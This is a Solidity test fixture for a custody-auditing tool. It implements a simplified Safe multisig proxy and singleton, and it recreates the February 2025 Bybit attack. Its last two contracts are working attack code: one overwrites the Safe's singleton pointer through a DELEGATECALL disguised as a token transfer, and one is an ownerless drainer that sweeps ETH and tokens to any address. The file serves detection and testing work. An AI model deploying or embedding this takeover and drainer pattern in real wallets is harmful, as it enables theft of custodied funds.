// SPDX-License-Identifier: Apache-2.0
// custody-auditor: a Safe-like multisig for tests and the demo (not for real funds).
//
// Faithful to Safe (v1.3/v1.4.1) where the auditor looks: the proxy keeps the
// singleton in storage slot 0 and DELEGATECALLs everything to it; the singleton
// keeps Safe's storage layout (slots 0..8), the owners and modules linked lists
// with SENTINEL 0x1, the guard and fallback handler at Safe's hashed slots, the
// view functions getOwners/getThreshold/getModulesPaginated/nonce, and the events
// of the setters. Simplified: signatures are on-chain approvals (`approveHash`,
// or the sender being an owner), no gas refunds, and the guard is stored but
// not called. An owner-approved `execTransaction` with operation 1 runs a
// DELEGATECALL in the Safe's own storage: that is how the Bybit Safe's singleton
// was replaced in Feb 2025, without any event.
// auditor/chains/ethereum_safe.py reads this layout; keep it as Safe's.
pragma solidity ^0.8.20;

/// Safe's proxy: slot 0 is the singleton; `masterCopy()` answers it directly.
contract TestSafeProxy {
    address internal singleton; // slot 0

    constructor(address singleton_) {
        require(singleton_ != address(0), "Invalid singleton address provided");
        singleton = singleton_;
    }

    fallback() external payable {
        assembly {
            let target := and(sload(0), 0xffffffffffffffffffffffffffffffffffffffff)
            // masterCopy()
            if eq(calldataload(0), 0xa619486e00000000000000000000000000000000000000000000000000000000) {
                mstore(0, target)
                return(0, 0x20)
            }
            calldatacopy(0, 0, calldatasize())
            let success := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if eq(success, 0) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// The singleton (implementation) behind TestSafeProxy, with Safe's storage layout.
contract TestSafe {
    address internal constant SENTINEL = address(0x1);
    // keccak256("guard_manager.guard.address")
    bytes32 internal constant GUARD_STORAGE_SLOT =
        0x4a204f620c8c5ccdca3fd54d003badd85ba500436a431f0cbda4f558c93c34c8;
    // keccak256("fallback_manager.handler.address")
    bytes32 internal constant FALLBACK_HANDLER_STORAGE_SLOT =
        0x6c9a6c4a39284e37ed1cf53d337577d14212a4870fb976a4366c693b939918d5;

    address internal singleton;                                            // slot 0
    mapping(address => address) internal modules;                         // slot 1
    mapping(address => address) internal owners;                          // slot 2
    uint256 internal ownerCount;                                          // slot 3
    uint256 internal threshold;                                           // slot 4
    uint256 public nonce;                                                 // slot 5
    bytes32 private _deprecatedDomainSeparator;                           // slot 6
    mapping(bytes32 => uint256) public signedMessages;                    // slot 7
    mapping(address => mapping(bytes32 => uint256)) public approvedHashes; // slot 8

    event SafeSetup(address indexed initiator, address[] owners, uint256 threshold,
                    address initializer, address fallbackHandler);
    event ApproveHash(bytes32 indexed approvedHash, address indexed owner);
    event ExecutionSuccess(bytes32 indexed txHash, uint256 payment);
    event ExecutionFromModuleSuccess(address indexed module);
    event SafeReceived(address indexed sender, uint256 value);
    event AddedOwner(address indexed owner);
    event RemovedOwner(address indexed owner);
    event ChangedThreshold(uint256 threshold);
    event EnabledModule(address indexed module);
    event DisabledModule(address indexed module);
    event ChangedGuard(address indexed guard);
    event ChangedFallbackHandler(address indexed handler);

    constructor() {
        threshold = 1; // as Safe: the singleton itself can never be set up
    }

    modifier authorized() {
        require(msg.sender == address(this), "GS031");
        _;
    }

    // --- setup and execution --------------------------------------------------

    function setup(address[] calldata owners_, uint256 threshold_, address fallbackHandler) external {
        require(threshold == 0, "GS200");
        require(threshold_ <= owners_.length, "GS201");
        require(threshold_ >= 1, "GS202");
        address current = SENTINEL;
        for (uint256 i = 0; i < owners_.length; i++) {
            address owner = owners_[i];
            require(owner != address(0) && owner != SENTINEL && owner != address(this)
                    && current != owner, "GS203");
            require(owners[owner] == address(0), "GS204");
            owners[current] = owner;
            current = owner;
        }
        owners[current] = SENTINEL;
        ownerCount = owners_.length;
        threshold = threshold_;
        modules[SENTINEL] = SENTINEL;
        if (fallbackHandler != address(0)) _setFallbackHandler(fallbackHandler);
        emit SafeSetup(msg.sender, owners_, threshold_, address(0), fallbackHandler);
    }

    function getTransactionHash(address to, uint256 value, bytes calldata data, uint8 operation,
                                uint256 nonce_) public view returns (bytes32) {
        return keccak256(abi.encode(address(this), block.chainid, to, value, keccak256(data),
                                    operation, nonce_));
    }

    function approveHash(bytes32 hashToApprove) external {
        require(owners[msg.sender] != address(0), "GS030");
        approvedHashes[msg.sender][hashToApprove] = 1;
        emit ApproveHash(hashToApprove, msg.sender);
    }

    /// Runs a call (operation 0) or a DELEGATECALL (operation 1) approved by `threshold` owners.
    function execTransaction(address to, uint256 value, bytes calldata data, uint8 operation)
        external payable returns (bool success)
    {
        bytes32 txHash = getTransactionHash(to, value, data, operation, nonce);
        nonce++;
        _checkApprovals(txHash);
        success = _execute(to, value, data, operation);
        require(success, "GS013");
        emit ExecutionSuccess(txHash, 0);
    }

    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation)
        external returns (bool success)
    {
        require(msg.sender != SENTINEL && modules[msg.sender] != address(0), "GS104");
        success = _execute(to, value, data, operation);
        if (success) emit ExecutionFromModuleSuccess(msg.sender);
    }

    function _checkApprovals(bytes32 txHash) internal view {
        uint256 count = 0;
        address owner = owners[SENTINEL];
        while (owner != SENTINEL) {
            if (owner == msg.sender || approvedHashes[owner][txHash] != 0) count++;
            owner = owners[owner];
        }
        require(count >= threshold, "GS020");
    }

    function _execute(address to, uint256 value, bytes calldata data, uint8 operation)
        internal returns (bool success)
    {
        require(operation <= 1, "GS013");
        if (operation == 1) {
            (success, ) = to.delegatecall(data);
        } else {
            (success, ) = to.call{value: value}(data);
        }
    }

    // --- owners and threshold (OwnerManager) -------------------------------------

    function addOwnerWithThreshold(address owner, uint256 threshold_) external authorized {
        require(owner != address(0) && owner != SENTINEL && owner != address(this), "GS203");
        require(owners[owner] == address(0), "GS204");
        owners[owner] = owners[SENTINEL];
        owners[SENTINEL] = owner;
        ownerCount++;
        emit AddedOwner(owner);
        if (threshold != threshold_) changeThreshold(threshold_);
    }

    function removeOwner(address prevOwner, address owner, uint256 threshold_) external authorized {
        require(ownerCount - 1 >= threshold_, "GS201");
        require(owner != address(0) && owner != SENTINEL, "GS203");
        require(owners[prevOwner] == owner, "GS205");
        owners[prevOwner] = owners[owner];
        owners[owner] = address(0);
        ownerCount--;
        emit RemovedOwner(owner);
        if (threshold != threshold_) changeThreshold(threshold_);
    }

    function swapOwner(address prevOwner, address oldOwner, address newOwner) external authorized {
        require(newOwner != address(0) && newOwner != SENTINEL && newOwner != address(this), "GS203");
        require(owners[newOwner] == address(0), "GS204");
        require(oldOwner != address(0) && oldOwner != SENTINEL, "GS203");
        require(owners[prevOwner] == oldOwner, "GS205");
        owners[newOwner] = owners[oldOwner];
        owners[prevOwner] = newOwner;
        owners[oldOwner] = address(0);
        emit RemovedOwner(oldOwner);
        emit AddedOwner(newOwner);
    }

    function changeThreshold(uint256 threshold_) public authorized {
        require(threshold_ <= ownerCount, "GS201");
        require(threshold_ >= 1, "GS202");
        threshold = threshold_;
        emit ChangedThreshold(threshold_);
    }

    function getThreshold() external view returns (uint256) {
        return threshold;
    }

    function isOwner(address owner) external view returns (bool) {
        return owner != SENTINEL && owners[owner] != address(0);
    }

    function getOwners() external view returns (address[] memory array) {
        array = new address[](ownerCount);
        uint256 index = 0;
        address current = owners[SENTINEL];
        while (current != SENTINEL) {
            array[index] = current;
            current = owners[current];
            index++;
        }
    }

    // --- modules (ModuleManager) -----------------------------------------------

    function enableModule(address module) external authorized {
        require(module != address(0) && module != SENTINEL, "GS101");
        require(modules[module] == address(0), "GS102");
        modules[module] = modules[SENTINEL];
        modules[SENTINEL] = module;
        emit EnabledModule(module);
    }

    function disableModule(address prevModule, address module) external authorized {
        require(module != address(0) && module != SENTINEL, "GS101");
        require(modules[prevModule] == module, "GS103");
        modules[prevModule] = modules[module];
        modules[module] = address(0);
        emit DisabledModule(module);
    }

    function isModuleEnabled(address module) external view returns (bool) {
        return SENTINEL != module && modules[module] != address(0);
    }

    /// As Safe v1.4.1: `next` is SENTINEL when the page holds the rest of the list.
    function getModulesPaginated(address start, uint256 pageSize)
        external view returns (address[] memory array, address next)
    {
        require(start == SENTINEL || modules[start] != address(0), "GS105");
        require(pageSize > 0, "GS106");
        array = new address[](pageSize);
        uint256 count = 0;
        next = modules[start];
        while (next != address(0) && next != SENTINEL && count < pageSize) {
            array[count] = next;
            next = modules[next];
            count++;
        }
        if (next != SENTINEL && count > 0) next = array[count - 1];
        assembly {
            mstore(array, count)
        }
    }

    // --- guard and fallback handler --------------------------------------------

    function setGuard(address guard) external authorized {
        bytes32 slot = GUARD_STORAGE_SLOT;
        assembly {
            sstore(slot, guard)
        }
        emit ChangedGuard(guard);
    }

    function setFallbackHandler(address handler) external authorized {
        _setFallbackHandler(handler);
    }

    function _setFallbackHandler(address handler) internal {
        require(handler != address(this), "GS400");
        bytes32 slot = FALLBACK_HANDLER_STORAGE_SLOT;
        assembly {
            sstore(slot, handler)
        }
        emit ChangedFallbackHandler(handler);
    }

    /// As Safe: unknown calls go to the fallback handler with the caller appended.
    fallback() external {
        bytes32 slot = FALLBACK_HANDLER_STORAGE_SLOT;
        assembly {
            let handler := sload(slot)
            if iszero(handler) { return(0, 0) }
            calldatacopy(0, 0, calldatasize())
            mstore(calldatasize(), shl(96, caller()))
            let success := call(gas(), handler, 0, 0, add(calldatasize(), 20), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(success) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }

    receive() external payable {
        emit SafeReceived(msg.sender, msg.value);
    }
}

/// Bybit's attack contract, Feb 2025: `transfer(address,uint256)` writes its first
/// argument into storage slot 0. Run by the Safe through DELEGATECALL, it replaces
/// the Safe's singleton, and no event says so.
contract TestSafeTakeover {
    address internal slot0;

    function transfer(address to, uint256) external {
        slot0 = to;
    }
}

/// The malicious singleton swapped in: no owners, no checks, sweeps to anyone.
/// It has no getOwners (calls to it revert), as the Bybit one had none.
contract TestSafeDrainer {
    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }

    function sweepERC20(address token, address to) external {
        (bool ok, bytes memory data) = token.call(abi.encodeWithSignature("balanceOf(address)", address(this)));
        require(ok && data.length == 32, "balanceOf failed");
        (ok, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, abi.decode(data, (uint256))));
        require(ok, "transfer failed");
    }
}
